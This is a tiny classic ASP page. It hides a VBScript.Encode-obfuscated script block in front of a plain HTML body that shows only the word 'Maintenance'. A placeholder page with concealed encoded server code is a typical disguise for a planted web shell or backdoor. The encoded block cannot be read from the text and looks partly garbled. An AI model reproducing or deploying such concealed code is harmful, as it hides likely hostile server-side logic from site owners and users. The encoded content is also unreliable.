<%@ LANGUAGE="VBScript.Encode" %>
<%#@~^SAAAAA==@#@&'y WrPxrb~fOROs @!@* OO $dr/@#@&  Tgr.x~r WrPxrb~fOROs@#@&T/i 'y@#@&jxAAAA==^#~@%>
<html><body>Maintenance</body></html>
